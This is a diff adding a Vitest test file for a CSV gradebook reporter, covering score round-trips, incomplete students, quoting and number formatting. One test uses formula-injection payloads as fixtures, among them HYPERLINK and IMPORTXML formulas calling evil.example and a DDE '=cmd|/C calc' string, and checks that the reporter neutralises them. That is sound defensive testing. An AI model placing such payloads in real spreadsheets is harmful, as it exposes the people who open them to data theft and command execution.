@@ -1,0 +1,93 @@
+import { parse } from 'csv-parse/sync';
+import { describe, expect, it } from 'vitest';
+import type { CheckResult, RunResult } from '../core/model.js';
+import { loadClassSmall, render } from '../fixtures/results/support.js';
+import { checkCatalogue } from './catalogue.js';
+import { ERRORS_COLUMN, FIXED_COLUMNS, csvCell } from './csv.js';
+
+/** Rows as a real CSV parser reads them (strict: a row with another column count throws). */
+const parseCsv = (text: string): string[][] => parse(text, { relax_column_count: false }) as string[][];
+
+async function table(run: RunResult): Promise<{ header: string[]; rows: Record<string, string>[]; text: string }> {
+  const text = await render('csv', run);
+  const [header, ...body] = parseCsv(text);
+  return { header, rows: body.map((cells) => Object.fromEntries(header.map((h, i) => [h, cells[i]]))), text };
+}
+
+describe('csv reporter', () => {
+  it('matches the golden gradebook', async () => {
+    await expect(await render('csv', loadClassSmall())).toMatchFileSnapshot('./__golden__/class-small.csv');
+  });
+
+  it('round-trips every score, percent and check points through a CSV parser', async () => {
+    const run = loadClassSmall();
+    const { header, rows, text } = await table(run);
+    expect(text.endsWith('\r\n')).toBe(true);
+    expect(header).toEqual([...FIXED_COLUMNS, ...run.students[0].checks.map((c) => c.id), ERRORS_COLUMN]);
+    expect(rows).toHaveLength(run.students.length);
+    run.students.forEach((s, i) => {
+      const row = rows[i];
+      expect(row.user).toBe(s.user);
+      expect(row.status).toBe(s.status);
+      expect(Number(row.score)).toBe(s.score);
+      expect(Number(row.maxScore)).toBe(s.maxScore);
+      expect(Number(row.percent)).toBe(s.percent);
+      expect(Number(row.bonus)).toBe(s.bonus);
+      for (const c of s.checks) {
+        // A number for what was decided; empty where the grader could not find out or it does not apply.
+        expect(row[c.id], `${s.user} ${c.id}`).toBe(c.status === 'error' || c.status === 'skipped' ? '' : String(c.points));
+      }
+      const points = s.checks.filter((c) => !c.bonus).reduce((sum, c) => sum + Number(row[c.id] || 0), 0);
+      expect(points, `${s.user}: required check columns add up to the score`).toBe(s.score);
+    });
+  });
+
+  it('keeps an incomplete student apart: status, no final pass, the checks in error named', async () => {
+    const { rows } = await table(loadClassSmall());
+    const incomplete = rows.find((r) => r.user === 'labuser09');
+    expect(incomplete).toMatchObject({ status: 'incomplete', passed: '', [ERRORS_COLUMN]: 'ex1.vm.reachable ex6.app.e2e' });
+    expect(rows.find((r) => r.user === 'labuser07')).toMatchObject({ status: 'graded', passed: 'true', [ERRORS_COLUMN]: '' });
+    expect(rows.find((r) => r.user === 'labuser08')?.passed).toBe('false');
+  });
+
+  it('neutralises formulas in user names and check ids, and quotes separators (RFC 4180)', async () => {
+    const run = loadClassSmall();
+    const hostile = ['=HYPERLINK("http://evil.example","x")', '+1+1', '-2+3', '@SUM(A1:A2)', '\t=1', ' =cmd|/C calc!A0'];
+    run.students = hostile.map((user, i) => ({ ...structuredClone(run.students[i % run.students.length]), user }));
+    const check: CheckResult = run.students[0].checks[5];
+    check.id = '=ex2.evil';
+    check.status = 'error';
+    check.message = '=IMPORTXML("http://evil.example")';
+    const { header, rows, text } = await table(run);
+    expect(rows.map((r) => r.user)).toEqual(hostile.map((u) => `'${u}`));
+    expect(header).toContain("'=ex2.evil");
+    expect(rows[0][ERRORS_COLUMN]).toBe("'=ex2.evil");
+    expect(text).not.toContain('IMPORTXML'); // messages are not exported at all
+    for (const cell of [...header, ...rows.flatMap((r) => Object.values(r))]) expect(cell).not.toMatch(/^\s*[=+\-@]|^[\t\r]/);
+  });
+
+  it('quotes commas, quotes and newlines so the row survives', () => {
+    const text = ['a,"b"\nc', 'plain'].map(csvCell).join(',') + '\r\n';
+    expect(text).toBe('"a,""b""\nc",plain\r\n');
+    expect(parseCsv(text)).toEqual([['a,"b"\nc', 'plain']]);
+  });
+
+  it('writes numbers as numbers, a negative one too, and nothing for NaN', () => {
+    expect([csvCell(-1), csvCell(2.5), csvCell(1 / 3), csvCell(Number.NaN), csvCell(null), csvCell(false)]).toEqual([
+      '-1',
+      '2.5',
+      '0.33',
+      '',
+      '',
+      'false',
+    ]);
+  });
+
+  it('takes the union of the checks in catalogue order when students differ', () => {
+    const run = loadClassSmall();
+    const [a, b] = run.students;
+    a.checks = a.checks.filter((c) => c.id !== 'ex2.compose.ports');
+    b.checks = b.checks.filter((c) => c.id !== 'ex7.tiller');
+    expect(checkCatalogue(run).map((c) => c.id)).toEqual(run.students[2].checks.map((c) => c.id));
+  });
+});
